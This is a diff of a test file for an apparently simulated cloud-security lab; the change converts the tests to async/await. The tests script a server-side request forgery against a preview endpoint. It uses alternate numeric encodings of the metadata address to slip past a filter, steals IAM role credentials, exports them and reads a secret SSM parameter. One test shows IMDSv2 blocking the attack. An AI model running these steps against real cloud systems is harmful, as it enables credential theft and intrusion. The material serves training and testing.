@@ -4,40 +4,42 @@ import { awsWorld, azureWorld, TestShell } from '../../../test/simulated-worlds.
 const shell = () => new TestShell(awsWorld)
 const ROLE = 'latest/meta-data/iam/security-credentials'
 
-test('the metadata service answers nobody at the learner’s desk', () => {
-  expect(shell().run('curl -s -S http://169.254.169.254/latest/meta-data/')).toMatchObject({
+test('the metadata service answers nobody at the learner’s desk', async () => {
+  expect(await shell().run('curl -s -S http://169.254.169.254/latest/meta-data/')).toMatchObject({
     exit: 28,
     output: 'curl: (28) Failed to connect to 169.254.169.254 port 80: Connection timed out\n',
   })
   expect(
-    new TestShell(azureWorld).prints(
+    await new TestShell(azureWorld).prints(
       'curl -sS -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01',
     ),
   ).toContain('timed out')
 })
 
-test('the preview refuses what looks internal, and fetches the same address in another writing', () => {
+test('the preview refuses what looks internal, and fetches the same address in another writing', async () => {
   const one = shell()
-  expect(one.prints(`curl -s "http://198.51.100.7/preview?url=http://169.254.169.254/" | jq -r .error`)).toBe(
+  expect(await one.prints(`curl -s "http://198.51.100.7/preview?url=http://169.254.169.254/" | jq -r .error`)).toBe(
     'this address looks internal',
   )
-  expect(one.prints(`curl -s "http://198.51.100.7/preview?url=http://localhost/" | jq -r .error`)).toBe(
+  expect(await one.prints(`curl -s "http://198.51.100.7/preview?url=http://localhost/" | jq -r .error`)).toBe(
     'this address looks internal',
   )
   for (const host of ['2852039166', '0xA9FEA9FE', '0251.0376.0251.0376', '169.16689662'])
     expect([
       host,
-      one.prints(`curl -s "http://198.51.100.7/preview?url=http://${host}/${ROLE}/" | jq -r .preview`),
+      await one.prints(`curl -s "http://198.51.100.7/preview?url=http://${host}/${ROLE}/" | jq -r .preview`),
     ]).toEqual([host, 'report-box'])
 })
 
-test('credentials that the preview gives away read what the machine may read', () => {
+test('credentials that the preview gives away read what the machine may read', async () => {
   const one = shell()
-  one.run(`curl -s "http://198.51.100.7/preview?url=http://2852039166/${ROLE}/report-box" | jq -r .preview > keys`)
-  one.run(
+  await one.run(
+    `curl -s "http://198.51.100.7/preview?url=http://2852039166/${ROLE}/report-box" | jq -r .preview > keys`,
+  )
+  await one.run(
     'export AWS_ACCESS_KEY_ID=$(jq -r .AccessKeyId keys) AWS_SECRET_ACCESS_KEY=$(jq -r .SecretAccessKey keys) AWS_SESSION_TOKEN=$(jq -r .Token keys)',
   )
-  const read = one.run(
+  const read = await one.run(
     'aws ssm get-parameter --name signing-key --with-decryption --query Parameter.Value --output text',
   )
   expect(read.output).toBe('FLAG{parameter}\n')
@@ -47,13 +49,15 @@ test('credentials that the preview gives away read what the machine may read', (
   })
 })
 
-test('where version two is required the same forged request gets a 401: it cannot send a PUT or a header', () => {
+test('where version two is required the same forged request gets a 401: it cannot send a PUT or a header', async () => {
   const one = shell()
   expect(
-    one.prints(`curl -s "http://198.51.100.8/preview?url=http://2852039166/${ROLE}/" | jq -c '[.status,.preview]'`),
+    await one.prints(
+      `curl -s "http://198.51.100.8/preview?url=http://2852039166/${ROLE}/" | jq -c '[.status,.preview]'`,
+    ),
   ).toBe('[401,"Unauthorized"]')
   expect(
-    one.prints(
+    await one.prints(
       `curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' "http://198.51.100.8/preview?url=http://2852039166/latest/api/token" | jq -r .status`,
     ),
   ).toBe('405')
@@ -77,6 +81,6 @@ test.each([
   ],
   ['curl -sS http://10.0.1.9/', 'curl: (6) Could not resolve host: 10.0.1.9'],
   ['curl', 'curl: (2) no URL specified'],
-])('%s', (line, words) => {
-  expect(shell().prints(line)).toContain(words)
+])('%s', async (line, words) => {
+  expect(await shell().prints(line)).toContain(words)
 })
